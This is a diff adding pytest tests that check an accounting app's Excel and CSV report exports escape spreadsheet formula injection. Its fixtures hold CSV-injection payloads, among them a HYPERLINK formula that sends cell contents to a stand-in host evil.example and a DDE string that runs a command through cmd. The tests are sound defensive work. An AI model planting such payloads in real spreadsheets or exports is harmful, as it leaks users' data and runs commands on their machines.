@@ -2,6 +2,7 @@
 
 import datetime
 import io
+import re
 from decimal import Decimal
 
 import openpyxl
@@ -150,3 +151,92 @@ def test_exports_stamp_the_figures_as_of_in_oslo_time(client, anders, pnl_compan
     assert "2. april 2025 06:30" in stamp, stamp
     cells = [sheet.cell(row=r, column=1).value or "" for r in range(1, 8)]
     assert any("2. april 2025 06:30" in cell for cell in cells), cells
+
+
+# Text that a spreadsheet would run or misread if it were not written as text: formulas, an error
+# value, and each of the first characters OWASP's CSV-injection guidance lists.
+HOSTILE_NAMES = {
+    3000: '=HYPERLINK("https://evil.example/?d="&A1,"Open")',
+    3100: "@SUM(1+1)",
+    3200: "+1+cmd|' /C calc'!A0",
+    3300: "-2+3",
+    3400: "\t=1+1",
+    3500: "\r=1+1",
+    3600: "#N/A",
+}
+HOSTILE_COMPANY = '=HYPERLINK("https://evil.example/","Acme")'
+
+
+@pytest.fixture
+def hostile_company(acme):
+    acme.name = HOSTILE_COMPANY
+    acme.save(update_fields=["name"])
+    month = datetime.date(2025, 1, 1)
+    with scope(company=acme):
+        seed_changes(
+            acme,
+            {
+                **{number: {month: -100} for number in HOSTILE_NAMES},
+                1920: {month: 700},
+                2000: {month: -700},
+            },
+            names={**HOSTILE_NAMES, 1920: "Bank\x01\x0b konto", 2000: "=1+1"},
+        )
+    return acme
+
+
+@pytest.mark.parametrize("path", ["resultat/excel/", "balanse/excel/"])
+def test_every_text_cell_of_a_workbook_is_text_never_a_formula(
+    client, anders, hostile_company, path
+):
+    client.force_login(anders)
+    sheet = _workbook(client.get(f"/c/{hostile_company.slug}/{path}"))
+    assert sheet["A2"].value == HOSTILE_COMPANY  # the company name, in A2
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    kinds = {cell.data_type for cell in cells}
+    assert kinds <= {"s", "n"}, kinds  # no formula ("f") and no error value ("e")
+    assert not [c.coordinate for c in cells if isinstance(c.value, str) and c.data_type != "s"]
+    texts = {cell.value for cell in cells if cell.data_type == "s"}
+    if path.startswith("resultat"):
+        # XML keeps a carriage return as a line feed when the file is read back.
+        assert {name.replace("\r", "\n") for name in HOSTILE_NAMES.values()} <= texts
+    else:
+        # Control characters a worksheet cannot hold are dropped instead of failing the export.
+        assert {"Bank konto", "=1+1"} <= texts
+
+
+def test_the_workbook_file_holds_no_formula_at_all(client, anders, hostile_company):
+    import zipfile
+
+    client.force_login(anders)
+    response = client.get(f"/c/{hostile_company.slug}/resultat/excel/")
+    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
+        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
+        xml = "".join(archive.read(name).decode() for name in sheets)
+    assert sheets
+    assert "<f>" not in xml
+    assert "<f " not in xml
+    assert 't="e"' not in xml
+
+
+@pytest.mark.parametrize("path", ["resultat/csv/", "balanse/csv/"])
+def test_every_text_field_of_a_csv_that_a_spreadsheet_would_run_is_escaped(
+    client, anders, hostile_company, path
+):
+    import csv
+
+    client.force_login(anders)
+    response = client.get(f"/c/{hostile_company.slug}/{path}")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert rows[1] == ["'" + HOSTILE_COMPANY]
+    fields = [field for row in rows for field in row]
+    for field in fields:
+        if field.startswith(("=", "+", "@", "\t", "\r")):
+            raise AssertionError(f"unescaped field {field!r}")
+        if field.startswith("-"):
+            # Only a negative amount may start with a minus.
+            assert re.fullmatch(r"-\d+,\d\d", field), field
+    if path.startswith("resultat"):
+        assert {"'" + name for name in HOSTILE_NAMES.values() if name[0] != "#"} <= set(fields)
+        assert "#N/A" in fields  # not a formula character: a CSV field stays as it is
